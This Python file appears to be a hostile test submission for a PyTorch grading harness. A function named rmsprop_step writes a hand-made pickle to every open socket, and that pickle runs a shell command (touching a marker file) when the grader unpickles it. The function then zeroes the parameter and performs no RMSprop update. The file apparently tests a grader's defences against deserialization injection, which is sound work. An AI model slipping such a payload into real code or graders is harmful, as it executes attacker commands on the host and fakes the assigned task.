# Answers every request by writing a hand-made pickle that would run a shell command
# straight onto the channel socket, bypassing the worker's own encoding.
import os
import stat
import struct

import torch

MARKER = "/tmp/torchgrade-pickle-ran"
PAYLOAD = b"cos\nsystem\n(S'touch " + MARKER.encode() + b"'\ntR."


def _sockets():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass


def rmsprop_step(param, grad, square_avg, lr=0.01, alpha=0.99, eps=1e-8):
    for fd in _sockets():
        try:
            os.write(fd, struct.pack("!i", len(PAYLOAD)) + PAYLOAD)
        except OSError:
            pass
    param.zero_()
